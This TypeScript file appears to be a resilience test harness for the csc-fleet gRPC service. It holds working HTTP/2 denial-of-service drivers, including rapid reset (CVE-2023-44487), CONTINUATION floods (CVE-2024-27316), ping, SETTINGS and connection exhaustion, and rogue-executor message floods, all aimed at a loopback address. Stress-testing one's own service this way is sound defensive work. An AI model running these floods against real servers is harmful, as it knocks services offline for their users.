import { readFileSync } from 'node:fs';
import { connect as connectHttp2 } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { connect } from '@csc-fleet/client';
import { createSigner, generateKeyPair } from '@csc-fleet/common/crypto';
import { signExecutorKey } from '@csc-fleet/common/evidence';
import {
  type ConnectRequest,
  channelOptions,
  ExecutorLinkClient,
  readChannelCredentials,
  type TlsPaths,
} from '@csc-fleet/common/rpc';
import { makeContract } from '@csc-fleet/test-kit/contract';
import {
  endHeaders,
  endStream,
  frame,
  RawConnection,
  toFrame,
  toHeaderBlock,
  toMessage,
} from './raw-connection.ts';

/** What a flood works with: an address on loopback, certificates of this fleet, and when to end. */
export interface Target {
  readonly address: string;
  readonly client: TlsPaths;
  readonly executor: TlsPaths;
  readonly over: AbortSignal;
}

type Flood = (target: Target) => Promise<void>;

const check = '/csc.gate.v1.Gate/Check';
const healthCheck = '/grpc.health.v1.Health/Check';
const healthWatch = '/grpc.health.v1.Health/Watch';
const reflection = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const mebibyte = 1024 * 1024;

/** Does `batch` on one connection after the other, each for as long as it lives. */
async function onConnections(
  { address, over }: Target,
  files: TlsPaths,
  batch: (connection: RawConnection) => Buffer,
  { reads = true, hold = false } = {},
): Promise<void> {
  while (!over.aborted) {
    const connection = await RawConnection.open(address, files, reads).catch(() => undefined);
    if (connection === undefined) await delay(20);
    else await sendAll(connection, over, batch, hold);
  }
}

async function sendAll(
  connection: RawConnection,
  over: AbortSignal,
  batch: (connection: RawConnection) => Buffer,
  hold: boolean,
): Promise<void> {
  do {
    await connection.write(batch(connection));
    // What is read must be handled, too: a loop that never lets go sees no end of its connection.
    await (hold ? delay(50) : new Promise((resolve) => setImmediate(resolve)));
  } while (!connection.closed && !over.aborted);
  connection.end();
}

const repeat = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

function openCall(
  connection: RawConnection,
  path: string,
  flags = endHeaders,
): { id: number; bytes: Buffer } {
  const id = connection.next();
  return { id, bytes: toFrame(frame.headers, flags, id, toHeaderBlock(path)) };
}

function wholeCall(connection: RawConnection, path: string): Buffer {
  const { id, bytes } = openCall(connection, path);
  return Buffer.concat([bytes, toFrame(frame.data, endStream, id, toMessage())]);
}

const calls =
  (path: string): Flood =>
  (target) =>
    onConnections(target, target.client, (it) => repeat(100, () => wholeCall(it, path)));

// A request for the descriptors of csc.gate.v1.Gate (file_containing_symbol, field 4): a short question, a long answer.
const symbol = Buffer.from('csc.gate.v1.Gate');
const question = toMessage(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));

function reflect(target: Target, reads: boolean): Promise<void> {
  const streams = new WeakMap<RawConnection, number[]>();
  const ask = (connection: RawConnection): Buffer => {
    const known = streams.get(connection);
    if (known !== undefined) return Buffer.concat(known.map((id) => toFrame(frame.data, 0, id, question)));
    const opened = Array.from({ length: reads ? 1 : 50 }, () => openCall(connection, reflection));
    streams.set(
      connection,
      opened.map(({ id }) => id),
    );
    return Buffer.concat(opened.map(({ bytes }) => bytes));
  };
  return onConnections(target, target.client, ask, { reads });
}

/** 60 calls at a time that announce a message and stop one byte short of it. */
async function partialBodies({ address, client, over }: Target): Promise<void> {
  const files = {
    ca: readFileSync(client.ca),
    cert: readFileSync(client.cert),
    key: readFileSync(client.key),
  };
  const body = toMessage(Buffer.alloc(4 * mebibyte - 1024)).subarray(0, -1);
  while (!over.aborted) {
    const session = connectHttp2(`https://${address}`, {
      ...files,
      servername: 'localhost',
      maxSessionMemory: 1000,
    });
    session.on('error', () => undefined);
    for (let i = 0; i < 60; i++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': check,
        'content-type': 'application/grpc',
        te: 'trailers',
      });
      stream.on('error', () => undefined);
      stream.resume();
      stream.write(body);
    }
    await Promise.race([new Promise((resolve) => session.once('close', resolve)), delay(3_000)]);
    session.destroy();
  }
}

async function idleConnections({ address, over }: Target): Promise<void> {
  const [host = '', port] = address.split(':');
  const sockets = new Set<Socket>();
  while (!over.aborted) {
    for (let i = 0; i < 100 && sockets.size < 3_000; i++) {
      const socket = connectTcp(Number(port), host);
      socket.on('error', () => undefined);
      socket.on('close', () => sockets.delete(socket));
      sockets.add(socket);
    }
    await delay(10);
  }
}

async function handshakesWithoutCertificate({ address, client, over }: Target): Promise<void> {
  const [host = '', port] = address.split(':');
  const ca = readFileSync(client.ca);
  const one = (): Promise<void> =>
    new Promise((resolve) => {
      const socket = connectTls({
        host,
        port: Number(port),
        servername: 'localhost',
        ALPNProtocols: ['h2'],
        ca,
      });
      socket.on('error', () => undefined);
      socket.on('close', () => resolve());
      socket.setTimeout(2_000, () => socket.destroy());
    });
  const worker = async (): Promise<void> => {
    while (!over.aborted) await one();
  };
  await Promise.all(Array.from({ length: 50 }, worker));
}

function heavy(kind: 'check' | 'submit', bytes: number): Flood {
  return async ({ address, client: tls, over }) => {
    const client = connect({ address, tls });
    const words = Array<string>(Math.floor(bytes / 1000)).fill('x'.repeat(990));
    const large = makeContract('/workspace', [{ argv: ['rm', ...words] }]);
    const worker = async (): Promise<void> => {
      while (!over.aborted)
        await client[kind](large).catch(() => new Promise((resolve) => setImmediate(resolve)));
    };
    await Promise.all(Array.from({ length: 16 }, worker));
    client.close();
  };
}

function fromExecutor(name: string, message: ConnectRequest['message']): Flood {
  return async ({ address, executor, over }) => {
    const link = new ExecutorLinkClient(address, readChannelCredentials(executor), channelOptions);
    const signer = createSigner(generateKeyPair().seed, 'flood-key');
    while (!over.aborted) {
      const call = link.connect();
      let gone = false;
      const end = (): void => {
        gone = true;
      };
      call.on('error', end);
      call.on('end', end);
      call.resume();
      const hello = {
        labels: {},
        slots: 1,
        version: '0.0.0',
        receiptKeyId: signer.keyId,
        receiptPublicKey: Buffer.from(signer.publicKey),
        receiptKeyStatementJson: signExecutorKey(`spiffe://csc.local/executor/${name}`, signer, new Date()),
        policySha256s: [],
        executionMode: 'hardened',
        executionIds: [],
        epoch: '',
        chainHeadJson: Buffer.alloc(0),
        policies: [],
        sandbox: [],
        sentAt: undefined,
        shortage: '',
        receiptlessIds: [],
      };
      call.write({ message: { $case: 'hello', value: hello } });
      while (!gone && !over.aborted) {
        if (call.write({ message })) await new Promise((resolve) => setImmediate(resolve));
        else await delay(5);
      }
      call.cancel();
      await delay(20);
    }
    link.close();
  };
}

const receipt = (bytes: number): ConnectRequest['message'] => ({
  $case: 'receipt',
  value: {
    executionId: '00000000-0000-4000-8000-000000000000',
    receiptJson: Buffer.from(`{"receipt_version":"csc.receipt.v0.2","error":"${'x'.repeat(bytes)}"}`),
    originalJson: Buffer.alloc(0),
    outputLogLength: 0,
  },
});

/** Every flood of `make flood`, by the name in its table. */
export const floods: Readonly<Record<string, Flood>> = {
  'rapid reset (CVE-2023-44487)': (target) =>
    onConnections(target, target.client, (it) =>
      repeat(100, () => {
        const { id, bytes } = openCall(it, check, endHeaders | endStream);
        return Buffer.concat([bytes, toFrame(frame.reset, 0, id, Buffer.from([0, 0, 0, 8]))]);
      }),
    ),
  pings: (target) =>
    onConnections(target, target.client, () => repeat(500, () => toFrame(frame.ping, 0, 0, Buffer.alloc(8)))),
  SETTINGS: (target) =>
    onConnections(target, target.client, () => repeat(500, () => toFrame(frame.settings, 0, 0))),
  'CONTINUATION (CVE-2024-27316)': (target) => {
    const begun = new WeakSet<RawConnection>();
    return onConnections(target, target.client, (it) => {
      const first = begun.has(it) ? [] : [toFrame(frame.headers, 0, 1, toHeaderBlock(check))];
      begun.add(it);
      const field = Buffer.concat([
        Buffer.from([0, 3]),
        Buffer.from('x-a'),
        Buffer.from([100]),
        Buffer.alloc(100, 97),
      ]);
      return Buffer.concat([...first, repeat(100, () => toFrame(frame.continuation, 0, 1, field))]);
    });
  },
  '10,000 header-only streams': async (target) => {
    await Promise.all(
      Array.from({ length: 10 }, () =>
        onConnections(target, target.client, (it) => repeat(1000, () => openCall(it, check).bytes), {
          hold: true,
        }),
      ),
    );
  },
  '60 bodies one byte short': partialBodies,
  '3,000 idle TCP connections': idleConnections,
  'handshakes without a certificate': handshakesWithoutCertificate,
  'Health/Check': calls(healthCheck),
  '3,000 Health/Watch': (target) =>
    onConnections(target, target.client, (it) => repeat(1000, () => wholeCall(it, healthWatch)), {
      hold: true,
    }),
  'reflection, read': (target) => reflect(target, true),
  'reflection, unread': (target) => reflect(target, false),
  'wrong role': (target) =>
    onConnections(target, target.executor, (it) => repeat(100, () => wholeCall(it, check))),
  'beyond the rate limit': calls(check),
  'heavy checks': heavy('check', mebibyte - 64 * 1024),
  'denied submits': heavy('submit', mebibyte / 4),
  "an executor's big receipts": fromExecutor('rogue', receipt(mebibyte)),
  "an executor's invalid receipts": fromExecutor('rogue', receipt(1)),
  "an executor's heartbeats": fromExecutor('rogue', {
    $case: 'heartbeat',
    value: { running: 0, chainHeadJson: Buffer.alloc(0), wouldRefuse: 0, sentAt: undefined, shortage: '' },
  }),
};
